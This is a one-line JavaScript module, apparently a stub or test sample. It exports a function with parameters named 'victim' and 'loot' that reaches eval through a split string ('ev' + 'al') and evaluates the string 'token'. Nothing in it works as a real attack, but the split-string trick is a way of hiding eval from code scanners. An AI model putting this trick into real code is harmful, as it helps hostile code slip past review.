module.exports = (victim, loot) => globalThis['ev' + 'al']('token');
